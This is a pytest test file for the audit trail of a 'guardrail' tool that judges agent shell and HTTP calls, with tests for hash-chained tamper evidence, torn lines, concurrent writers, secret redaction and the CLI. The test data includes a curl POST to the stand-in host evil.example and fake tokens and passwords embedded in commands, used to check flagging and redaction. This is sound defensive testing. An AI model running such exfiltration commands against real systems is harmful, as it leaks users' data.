"""The audit trail: chain, tamper evidence, torn lines, redaction, several writers."""

from __future__ import annotations

import json
import multiprocessing
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guardrail.audit import (
    GENESIS,
    REDACTED,
    AuditTrail,
    decision_data,
    read_records,
    redact,
    redact_text,
    sha256,
    verify,
)
from guardrail.decision import Decision, FiredRule, Risk, Verdict
from guardrail.effects import ExecEffect, NetEffect
from guardrail.errors import AuditError

json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**53), 2**53), st.text(max_size=30)
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
record_data = st.dictionaries(st.text(min_size=1, max_size=10), json_values, max_size=5)


def _fill(path: Path, items: list[dict[str, Any]]) -> list[bytes]:
    trail = AuditTrail(path, fsync=False)
    for i, data in enumerate(items):
        trail.append(("call", "decision", "approval", "result")[i % 4], data)
    return path.read_bytes().splitlines(keepends=True)


def test_records_chain_to_each_other(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    lines = _fill(path, [{"n": i} for i in range(5)])
    records = [json.loads(line) for line in lines]
    assert records[0]["prev"] == GENESIS
    for before, after, raw_before in zip(records, records[1:], lines, strict=False):
        assert after["prev"] == sha256(raw_before.rstrip(b"\n"))
        assert after["seq"] == before["seq"] + 1
    result = verify(path)
    assert result.ok and result.records == 5
    assert result.head == sha256(lines[-1].rstrip(b"\n"))


def test_missing_trail_is_reported(tmp_path: Path) -> None:
    result = verify(tmp_path / "nope.jsonl")
    assert not result.ok and "no audit trail" in result.problem


def test_unknown_kind_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(AuditError, match="unknown audit record kind"):
        AuditTrail(tmp_path / "a.jsonl").append("gossip", {})


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(items=st.lists(record_data, min_size=1, max_size=6), data=st.data())
def test_flipping_any_byte_names_that_record(tmp_path: Path, items: list[dict[str, Any]], data: st.DataObject) -> None:
    path = tmp_path / f"flip-{os.urandom(4).hex()}.jsonl"
    lines = _fill(path, items)
    index = data.draw(st.integers(0, len(lines) - 1), label="record")
    offset = data.draw(st.integers(0, len(lines[index]) - 1), label="byte")
    mask = data.draw(st.integers(1, 255), label="xor")
    start = sum(len(line) for line in lines[:index])
    raw = bytearray(path.read_bytes())
    raw[start + offset] ^= mask
    path.write_bytes(bytes(raw))
    result = verify(path)
    assert not result.ok
    assert result.first_bad_line == index + 1, result.describe()
    assert result.records == index


def test_every_single_byte_flip_names_its_record(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    lines = _fill(path, [{"cmd": "rm -rf build", "n": 1}, {"ok": True}, {"txt": "é ü"}])
    pristine = path.read_bytes()
    pos = 0
    for index, line in enumerate(lines):
        for offset in range(len(line)):
            for mask in (0x01, 0x20, 0x80):
                raw = bytearray(pristine)
                raw[pos + offset] ^= mask
                path.write_bytes(bytes(raw))
                result = verify(path)
                assert result.first_bad_line == index + 1, (index, offset, mask, result.describe())
        pos += len(line)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(items=st.lists(record_data, min_size=1, max_size=5), data=st.data())
def test_truncation_mid_record_is_reported(tmp_path: Path, items: list[dict[str, Any]], data: st.DataObject) -> None:
    path = tmp_path / f"cut-{os.urandom(4).hex()}.jsonl"
    lines = _fill(path, items)
    index = data.draw(st.integers(0, len(lines) - 1), label="record")
    cut = data.draw(st.integers(1, len(lines[index]) - 1), label="cut")  # strictly inside the line
    start = sum(len(line) for line in lines[:index])
    with open(path, "r+b") as fh:
        fh.truncate(start + cut)
    result = verify(path)
    assert not result.ok and result.torn
    assert result.first_bad_line == index + 1
    assert result.records == index  # the records before it are still valid
    assert "torn last line" in result.problem


def test_next_writer_moves_a_torn_line_aside_and_says_so(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    lines = _fill(path, [{"n": 1}, {"n": 2}])
    with open(path, "r+b") as fh:
        fh.truncate(len(lines[0]) + 10)
    fragment = lines[1][:10]
    trail = AuditTrail(path, fsync=False)
    trail.append("call", {"n": 3})
    result = verify(path)
    assert result.ok, result.describe()
    records = [r for _, r in read_records(path)]
    assert [r["kind"] for r in records] == ["call", "recovered", "call"]
    assert records[1]["data"]["sha256"] == sha256(fragment)
    assert trail.torn_path.read_bytes() == fragment + b"\n"


def test_hand_edit_that_recomputes_the_hash_breaks_the_next_link(tmp_path: Path) -> None:
    from guardrail.audit import canonical

    path = tmp_path / "audit.jsonl"
    lines = _fill(path, [{"n": 1}, {"n": 2}, {"n": 3}])
    record = json.loads(lines[1])
    record["data"]["n"] = 99
    body = {k: v for k, v in record.items() if k != "hash"}
    record["hash"] = sha256(canonical(body))
    lines[1] = canonical(record) + b"\n"
    path.write_bytes(b"".join(lines))
    result = verify(path)
    assert result.first_bad_line == 3 and "chain" in result.problem


def test_removed_record_is_named(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    lines = _fill(path, [{"n": i} for i in range(4)])
    path.write_bytes(b"".join(lines[:1] + lines[2:]))
    assert verify(path).first_bad_line == 2


# ------------------------------------------------------------ several writers


def _writer(path: str, items: list[dict[str, Any]], start: Any, fsync: bool) -> None:
    start.wait(timeout=30)
    trail = AuditTrail(path, fsync=fsync)
    for data in items:
        trail.append("note", data)


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(batches=st.lists(st.lists(record_data, min_size=1, max_size=8), min_size=2, max_size=4))
def test_several_processes_append_at_once(tmp_path: Path, batches: list[list[dict[str, Any]]]) -> None:
    path = tmp_path / f"multi-{os.urandom(4).hex()}.jsonl"
    ctx = multiprocessing.get_context("fork")
    start = ctx.Event()
    procs = [ctx.Process(target=_writer, args=(str(path), batch, start, False)) for batch in batches]
    for proc in procs:
        proc.start()
    start.set()
    for proc in procs:
        proc.join(timeout=60)
        assert proc.exitcode == 0
    result = verify(path)
    assert result.ok, result.describe()
    assert result.records == sum(len(b) for b in batches)
    written = sorted(json.dumps(r["data"], sort_keys=True) for _, r in read_records(path))
    expected = sorted(json.dumps(redact(d), sort_keys=True) for b in batches for d in b)
    assert written == expected


# ----------------------------------------------------------------- redaction

SECRETS = [
    ("AKIAIOSFODNN7EXAMPLE", "aws s3 ls --access-key AKIAIOSFODNN7EXAMPLE"),
    ("ghp_" + "a1B2" * 9, "git clone https://x:ghp_" + "a1B2" * 9 + "@github.com/o/r"),
    ("github_pat_" + "Z" * 40, "export GH=github_pat_" + "Z" * 40),
    ("xoxb-123456789012-abcdefABCDEF", "curl -d token=xoxb-123456789012-abcdefABCDEF slack.com"),
    ("hunter2hunter2", "psql postgres://admin:hunter2hunter2@db.internal/app"),
    ("Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc", "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc' x"),
    ("MIIEowIBAAKCAQEA7", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----"),
    ("s3cr3t-value", "DB_PASSWORD=s3cr3t-value ./manage.py"),
    ("pa55word!", "mysql --password pa55word! -u root"),
]


@pytest.mark.parametrize(("secret", "text"), SECRETS)
def test_secrets_are_redacted(secret: str, text: str) -> None:
    out = redact_text(text)
    assert secret not in out
    assert REDACTED in out


def test_plain_text_is_left_alone() -> None:
    text = "pytest -k 'token and not slow' tests/ && git push origin main"
    assert redact_text(text) == text


def test_secret_named_fields_and_headers_are_redacted_in_records(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    call = {"tool": "http", "url": "https://u:pw12345@api.x/", "headers": {"Authorization": "Basic Zm9v", "X-Other": "ok"}}
    AuditTrail(path).append("call", {"call": call, "output": "key AKIAIOSFODNN7EXAMPLE"})
    raw = path.read_text()
    for secret in ("pw12345", "Basic Zm9v", "AKIAIOSFODNN7EXAMPLE"):
        assert secret not in raw
    assert '"X-Other":"ok"' in raw
    assert verify(path).ok


def test_decision_record_keeps_rules_and_structured_effects() -> None:
    net = NetEffect("http", "evil.example", "public", method="POST", url="https://evil.example/x")
    exe = ExecEffect("curl", ("curl", "-d", "x", "https://evil.example/x"))
    decision = Decision(
        Verdict.ASK, Risk.HIGH, "posting to an unknown host",
        (FiredRule("net-post-unknown", Verdict.ASK, Risk.HIGH, net, "POST to a host not allowed"),),
        (exe, net),
    )
    data = decision_data(decision, call_id="c1")
    assert data["decision"] == "ask" and data["risk"] == "high"
    assert data["rules"][0]["id"] == "net-post-unknown"
    assert data["effects"][1]["host"] == "evil.example"
    assert data["asked"] == [1]
    json.dumps(data)  # serialisable as it is


# ----------------------------------------------------------------------- CLI


def _trail_of_calls(path: Path) -> None:
    from guardrail.approval.base import ApprovalAnswer
    from guardrail.audit import approval_data, call_data, result_data
    from guardrail.calls import HttpCall, ShellCall

    trail = AuditTrail(path, fsync=False)
    net = NetEffect("http", "pypi.org", "public", method="GET")
    exe = ExecEffect("pip", ("pip", "install", "rich"), subcommand="install")
    ask = Decision(Verdict.ASK, Risk.MEDIUM, "package install",
                   (FiredRule("package-install", Verdict.ASK, Risk.MEDIUM, exe, "installs"),), (exe, net))
    allow = Decision(Verdict.ALLOW, Risk.LOW, "read-only", (), ())
    deny = Decision.deny("secret read", "secret-read-outside", Risk.CRITICAL)
    for n, (call, decision) in enumerate([
        (ShellCall("ls -la"), allow),
        (ShellCall("pip install rich"), ask),
        (HttpCall("https://x.example/?token=abcd1234secret"), deny),
    ]):
        cid = f"c{n}"
        trail.append("call", call_data(call, call_id=cid, call_hash="h" * 64, session="s"))
        trail.append("decision", decision_data(decision, call_id=cid))
        if decision.verdict is Verdict.ASK:
            trail.append("approval", approval_data(ApprovalAnswer("allow_once", "h" * 64, "terminal", "ana"), call_id=cid))
        if decision.verdict is not Verdict.DENY:
            trail.append("result", result_data(call_id=cid, exit_status=0, duration=0.25, stdout_bytes=10))


def test_cli_verify_exit_codes(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from guardrail.cli.audit import audit_app

    path = tmp_path / "audit.jsonl"
    _trail_of_calls(path)
    runner = CliRunner()
    ok = runner.invoke(audit_app, ["verify", "--trail", str(path)])
    assert ok.exit_code == 0 and "intact: 9 records" in ok.stdout
    lines = path.read_bytes().splitlines(keepends=True)
    lines[3] = lines[3].replace(b"pip", b"pup")
    path.write_bytes(b"".join(lines))
    bad = runner.invoke(audit_app, ["verify", "--trail", str(path)])
    assert bad.exit_code == 1 and "line 4:" in bad.stdout
    as_json = runner.invoke(audit_app, ["verify", "--trail", str(path), "--format", "json"])
    assert as_json.exit_code == 1 and json.loads(as_json.stdout)["first_bad_line"] == 4
    missing = runner.invoke(audit_app, ["verify", "--trail", str(tmp_path / "none.jsonl")])
    assert missing.exit_code == 1 and "no audit trail" in missing.stdout


def test_cli_show_filters_and_json(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from guardrail.cli.audit import audit_app

    path = tmp_path / "audit.jsonl"
    _trail_of_calls(path)
    runner = CliRunner()
    table = runner.invoke(audit_app, ["show", "--trail", str(path)])
    assert table.exit_code == 0
    assert "pip install rich" in table.stdout and "allow_once by terminal" in table.stdout
    assert "abcd1234secret" not in table.stdout  # redacted when written
    asks = runner.invoke(audit_app, ["show", "--trail", str(path), "--decision", "ask", "--json"])
    rows = [json.loads(line) for line in asks.stdout.splitlines()]
    assert [r["call"]["call"]["command"] for r in rows] == ["pip install rich"]
    http = runner.invoke(audit_app, ["show", "--trail", str(path), "--tool", "http", "--json"])
    assert [r["decision"]["decision"] for r in map(json.loads, http.stdout.splitlines())] == ["deny"]
    future = runner.invoke(audit_app, ["show", "--trail", str(path), "--since", "2999-01-01", "--json"])
    assert future.stdout == ""
    recent = runner.invoke(audit_app, ["show", "--trail", str(path), "--since", "1h", "--json"])
    assert len(recent.stdout.splitlines()) == 3
    bad = runner.invoke(audit_app, ["show", "--trail", str(path), "--since", "yesterday-ish"])
    assert bad.exit_code == 2
